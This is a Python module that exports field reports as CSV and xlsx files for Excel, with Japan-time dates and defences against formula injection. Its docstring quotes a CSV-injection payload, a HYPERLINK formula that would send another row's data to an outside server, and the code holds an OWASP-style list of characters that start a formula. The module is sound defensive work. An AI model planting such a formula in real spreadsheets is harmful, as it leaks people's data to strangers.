"""Report exports as CSV and xlsx, one layout for ``nimo reports export`` and the console.

The files are read by people in Excel, not by programs: the author is named (bot/people/names.py), times
are Japan time to the minute ('2026-12-01 14:05', not UTC with microseconds), and in xlsx the
dates are date cells with a date format (so they sort and filter as dates) in columns wide enough
to read.  Rows are written as they come, so a large export does not grow in memory.

Every cell a person typed (report text, case codes, areas) or a platform gave (display names) is
text, never a formula: a report reading ``=HYPERLINK("http://…/?d="&F3, …)`` would otherwise send
another row to a stranger's server when a supervisor clicks it.  In xlsx such cells are string
cells marked with Excel's quote prefix (so editing the cell keeps it text); in CSV, which has no
types, a cell that Excel would read as a formula gets a leading ``'``, as OWASP recommends.
"""
from __future__ import annotations

import csv
import io
import sys
from datetime import date, datetime
from pathlib import Path
from typing import Iterable
from zoneinfo import ZoneInfo

from bot.messages import PLATFORM_NAMES
from bot.people.names import label
from bot.reports.records import number

TZ = ZoneInfo("Asia/Tokyo")
FORMATS = ("csv", "xlsx")
COLUMNS = (("number", "番号"), ("date", "日付"), ("type", "種類"), ("area", "地域"), ("case_code", "ケース"),
           ("summary", "内容"), ("next_action", "次回の予定"), ("next_date", "次回の日付"), ("next_time", "次回の時刻"),
           ("platform", "送信元"), ("author", "報告者"), ("created_at", "保存日時"), ("photos", "写真"))
DATES = ("date", "next_date")
# Excel's width unit is about one digit; a Japanese character takes about two.
WIDTHS = {"number": 10, "date": 12, "type": 14, "area": 16, "case_code": 10, "summary": 60, "next_action": 30,
          "next_date": 12, "next_time": 10, "photos": 8, "platform": 12, "author": 20, "created_at": 17}
DATE_FORMAT = "yyyy-mm-dd"
TIME_FORMAT = "yyyy-mm-dd hh:mm"
# What makes a spreadsheet read a cell as a formula (OWASP's list for CSV injection)
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")


def local_time(iso: str | None) -> datetime | None:
    """A stored UTC instant as a naive Japan time to the minute (what a cell or a CSV shows)."""
    if not iso:
        return None
    t = datetime.fromisoformat(iso)
    if t.tzinfo is not None:
        t = t.astimezone(TZ).replace(tzinfo=None)
    return t.replace(second=0, microsecond=0)


def _day(value: str | None) -> date | str | None:
    try:
        return date.fromisoformat(value) if value else None
    except ValueError:  # never expected; shown as stored rather than lost
        return value


def _cells(r: dict, *, as_text: bool) -> list:
    """One report (a row of ``reports`` with its author's ``display_name``) as cell values: the
    author as a name, the saving time in Japan; for xlsx dates as ``date`` and the time as a
    ``datetime``, for CSV all as text (dates are stored as 'YYYY-MM-DD' already, so they are not
    parsed and printed again)."""
    out = []
    for k, _ in COLUMNS:
        if k == "number":
            out.append(number(r["id"]))
        elif k == "platform":  # 「LINE WORKS」, as people call it, not the stored key
            out.append(PLATFORM_NAMES.get(r["platform"], r["platform"]))
        elif k == "photos":  # how many photos the report has (they stay in the console, not the file)
            n = r.get("photos") or 0
            out.append(str(n) if as_text else n)
        elif k == "author":
            out.append(label(r["platform"], r["author"], r.get("display_name")))
        elif k == "created_at":
            t = local_time(r["created_at"])
            out.append((t.isoformat(" ", "minutes") if t else "") if as_text else t)
        elif k in DATES and not as_text:
            out.append(_day(r.get(k)))
        else:
            out.append((r.get(k) or "") if as_text else r.get(k))
    return out


def formula_like(v: object) -> bool:
    return isinstance(v, str) and v.startswith(FORMULA_LEAD)


def csv_text(v: str) -> str:
    """A CSV cell Excel and LibreOffice show as the text it is (a leading ``'``)."""
    return "'" + v if formula_like(v) else v


def values(r: dict) -> list:
    """A report as typed cell values (xlsx)."""
    return _cells(r, as_text=False)


def texts(r: dict) -> list[str]:
    """A report as the text of a CSV row, none of it a formula."""
    return [csv_text(v) for v in _cells(r, as_text=True)]


def csv_chunks(rows: Iterable[dict]):
    """UTF-8 with a BOM, so that Excel reads the Japanese; one chunk per 500 rows."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([h for _, h in COLUMNS])
    yield "\ufeff".encode("utf-8") + buf.getvalue().encode("utf-8")
    buf.seek(0)
    buf.truncate()
    for n, r in enumerate(rows, start=1):
        w.writerow(texts(r))
        if n % 500 == 0:
            yield buf.getvalue().encode("utf-8")
            buf.seek(0)
            buf.truncate()
    if buf.tell():
        yield buf.getvalue().encode("utf-8")


def write_xlsx(rows: Iterable[dict], path: str | Path) -> None:
    """openpyxl's write-only workbook keeps rows on disk, not in memory.  The widths and the
    frozen header row are set before the first row, as write-only sheets require; the autofilter
    on the header row is set after the last, when its range is known (it is written on save)."""
    _import_openpyxl()
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("報告")
    for i, (k, _) in enumerate(COLUMNS, start=1):
        ws.column_dimensions[get_column_letter(i)].width = WIDTHS[k]
    ws.freeze_panes = "A2"
    ws.append([h for _, h in COLUMNS])

    def cell(v):
        if isinstance(v, (date, datetime)):
            c = WriteOnlyCell(ws, value=v)
            c.number_format = TIME_FORMAT if isinstance(v, datetime) else DATE_FORMAT
            return c
        if formula_like(v):  # openpyxl makes a str that starts with '=' a formula; any other str is text
            c = WriteOnlyCell(ws, value=v)
            c.data_type = "s"
            c.quotePrefix = True
            return c
        return v
    n = 0
    for n, r in enumerate(rows, start=1):
        ws.append([cell(v) for v in values(r)])
    ws.auto_filter.ref = f"A1:{get_column_letter(len(COLUMNS))}{n + 1}"
    wb.save(str(path))


def _import_openpyxl() -> None:
    """openpyxl imports numpy whenever it is installed, only to count numpy's number types as
    numbers; the rows written here hold text, integers and dates.  The console's xlsx download runs
    in the web process, which stays small (numpy alone is about 15 MB there), so openpyxl is
    imported with numpy hidden, unless this process has numpy already (the CLI after a search)."""
    if "openpyxl" in sys.modules or "numpy" in sys.modules:
        return
    sys.modules["numpy"] = None  # an import of numpy now raises ImportError, as if not installed
    try:
        import openpyxl  # noqa: F401
    finally:
        if sys.modules.get("numpy", False) is None:
            del sys.modules["numpy"]


def format_for(path: Path, fmt: str | None) -> str:
    """The format to write ``path`` in: ``fmt`` when given, else its extension's, else CSV.
    Raises ValueError (Japanese) when both are given and disagree: an xlsx file named .csv opens
    as garbage, and the reverse confuses whoever receives it."""
    suffix = path.suffix.lower()
    by_suffix = suffix.lstrip(".") if suffix.lstrip(".") in FORMATS else None
    if fmt is None:
        return by_suffix or "csv"
    if suffix in (".csv", ".tsv", ".xlsx", ".xls", ".xlsm") and by_suffix != fmt:
        from bot.messages import export_format_mismatch
        raise ValueError(export_format_mismatch(fmt, suffix))
    return fmt
